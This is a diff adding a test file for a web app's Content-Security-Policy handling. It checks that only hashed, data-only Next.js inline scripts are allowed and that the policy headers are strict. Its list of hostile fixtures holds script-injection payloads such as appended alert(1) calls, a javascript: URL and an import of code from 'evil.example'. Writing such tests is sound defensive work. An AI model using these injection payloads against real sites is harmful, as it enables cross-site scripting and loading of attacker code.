@@ -1,0 +1,165 @@
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { describe, it } from 'node:test';
+import { tenants } from '#tenants';
+import { contentSecurityPolicy } from '../../door/headers/content-security-policy.ts';
+import { inlineScriptSources } from '../../door/headers/inline-scripts.ts';
+import { openDoor } from './support/door.ts';
+import { page } from './support/next.ts';
+
+const sourceOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
+const tag = (script: string, attributes = '') => `<script${attributes}>${script}</script>`;
+const TURBOPACK = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = []))';
+
+const HARMLESS = [
+  '(self.__next_f=self.__next_f||[]).push([0])',
+  'self.__next_f.push([1,"0:[\\"$\\",\\"p\\",null,{}]\\n"])',
+  'self.__next_f.push([1,"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"])',
+  'self.__next_f.push([1,"a\\nb"])',
+  `${TURBOPACK}.push(["static/chunks/a.js",{"otherChunks":["static/chunks/b.js"],"runtimeModuleIds":[1]}]);`,
+];
+
+const HOSTILE = [
+  '',
+  ' ',
+  'alert(1)',
+  'self.__next_f.push([1,"a"]);alert(1)',
+  'self.__next_f.push([1,"a"]),alert(1)',
+  'self.__next_f.push([1,"a"]) ',
+  'self.__next_f.push(alert(1))',
+  'self.__next_f.push([1,"a".concat(alert(1))])',
+  'self.__next_f.push([1,`a`])',
+  "self.__next_f.push([1,'a'])",
+  'self.__next_f.push([1,"a"])//',
+  'self.__next_f.push([1,"a"]);',
+  'self.__next_f.push([1,"a"])\nalert(1)',
+  'self.__next_f.push([1,"a"],alert(1))',
+  'self.__next_f.push((alert(1),[1]))',
+  'self.__next_f.push([1,{get a(){alert(1)}}])',
+  'self.__next_f.push()',
+  ' self.__next_f.push([1,"a"])',
+  'alert(1);self.__next_f.push([1,"a"])',
+  '(self.__next_f=self.__next_f||[]).push([0]);alert(1)',
+  '(self.__next_f=self.__next_f||[]).push([1])',
+  `${TURBOPACK}.push(["a"]);alert(1)`,
+  `${TURBOPACK}.push(["a"]);alert(1);`,
+  `${TURBOPACK}.push(["a",()=>alert(1)]);`,
+  `${TURBOPACK}.push([1]);alert(1);(0)([2]);`,
+  `${TURBOPACK}.push(["a",{"x":"\\u0061"}])`,
+  'globalThis.TURBOPACK.push([1])',
+  'import("//evil.example/x.js")',
+  'location="javascript:alert(1)"',
+  '<!--\nalert(1)\n-->',
+];
+
+describe('an inline script of a page', () => {
+  for (const script of HARMLESS) {
+    it(`that only hands data over may run: ${script.slice(0, 60)}`, () => {
+      assert.deepEqual(inlineScriptSources(tag(script)), { sources: [sourceOf(script)], refused: 0 });
+    });
+  }
+
+  for (const script of HOSTILE) {
+    it(`that does anything else may not: ${JSON.stringify(script.slice(0, 60))}`, () => {
+      assert.deepEqual(inlineScriptSources(tag(script)), { sources: [], refused: 1 });
+    });
+  }
+
+  it('gets no source when it is a data block, or a file', () => {
+    const html = [
+      tag('{"@type":"Restaurant"}', ' type="application/ld+json"'),
+      tag('{}', ' id="x" type="application/json"'),
+      tag('', ' src="/_next/static/a.js" async=""'),
+    ].join('');
+    assert.deepEqual(inlineScriptSources(html), { sources: [], refused: 0 });
+  });
+
+  it('gets none by being written otherwise', () => {
+    for (const html of [
+      '<SCRIPT>alert(1)</SCRIPT>',
+      '<script\n>alert(1)</script >',
+      '<svg><script href=x />',
+    ])
+      assert.deepEqual(inlineScriptSources(html).sources, [], html);
+  });
+
+  it('that closes itself early is not taken together with what follows', () => {
+    const { sources, refused } = inlineScriptSources(
+      `${tag('self.__next_f.push([1,"a')}${tag('alert(1)')}"])</script>`,
+    );
+    assert.deepEqual({ sources, refused }, { sources: [], refused: 2 });
+  });
+
+  it('is found in a page of hostile text as in any other, each piece of the text looked at once', () => {
+    const [harmless = ''] = HARMLESS;
+    for (const text of ['<script ', '<script>', '<script src', '</script>', '<script x src=', '<scriptx']) {
+      const html = tag(harmless) + text.repeat(200_000);
+      assert.deepEqual(inlineScriptSources(html).sources, [sourceOf(harmless)], text);
+    }
+  });
+});
+
+describe('the policy of a page', () => {
+  const policyOf = async (body: string) => {
+    const door = await openDoor(() => page(body));
+    const { headers } = await door.get('/');
+    return { policy: String(headers['content-security-policy']), door };
+  };
+  const directive = (policy: string, name: string) =>
+    policy.split('; ').find((one) => one.startsWith(`${name} `));
+
+  it('lets its own files run and its harmless scripts, and nothing else', async () => {
+    const { policy, door } = await policyOf([...HARMLESS, 'alert(1)'].map((each) => tag(each)).join(''));
+    assert.equal(directive(policy, 'script-src'), `script-src 'self' ${HARMLESS.map(sourceOf).join(' ')}`);
+    assert.deepEqual(door.refusedScripts, ['le-bosphore ']);
+  });
+
+  it('allows nothing that is not named, no frame, no other base, no form to elsewhere', async () => {
+    const { policy } = await policyOf('');
+    for (const [name, sources] of Object.entries({
+      'default-src': "'none'",
+      'script-src': "'self'",
+      'frame-ancestors': "'none'",
+      'base-uri': "'none'",
+      'form-action': "'self'",
+      'img-src': "'self' data: https:",
+    }))
+      assert.equal(directive(policy, name), `${name} ${sources}`);
+    assert.doesNotMatch(policy, /unsafe-eval|script-src[^;]*unsafe|\*/);
+  });
+
+  it('lets a page reach the realtime channel on the hosts of its shop alone', () => {
+    const [tenant, other] = tenants;
+    assert(tenant && other);
+    const own = contentSecurityPolicy({ tenant, scripts: [], realtimeUrl: ':4000' });
+    for (const host of tenant.hosts) assert(own.includes(` http://${host}:4000 ws://${host}:4000`));
+    for (const host of other.hosts) assert(!own.includes(host));
+    const backend = { url: 'https://api.example', realtimeUrl: 'https://live.example' };
+    const foreign = contentSecurityPolicy({
+      tenant: { ...tenant, backend },
+      scripts: [],
+      realtimeUrl: ':4000',
+    });
+    assert.equal(
+      directive(foreign, 'connect-src'),
+      "connect-src 'self' https://live.example wss://live.example",
+    );
+    const nobody = contentSecurityPolicy({ tenant: null, scripts: [], realtimeUrl: ':4000' });
+    assert.equal(directive(nobody, 'connect-src'), "connect-src 'self'");
+  });
+
+  it('goes with every HTML answer, whatever its status and whatever Next says of keeping it', async () => {
+    for (const status of [200, 404, 500]) {
+      const headers = { 'cache-control': 'public, max-age=31536000, immutable' };
+      const door = await openDoor(() => ({ ...page(tag('alert(1)'), headers), status }));
+      for (const path of ['/', '/_next/static/a.html']) {
+        const reply = await door.get(path);
+        assert.match(
+          String(reply.headers['content-security-policy']),
+          /script-src 'self'(;|$)/,
+          `${status} ${path}`,
+        );
+      }
+    }
+  });
+});
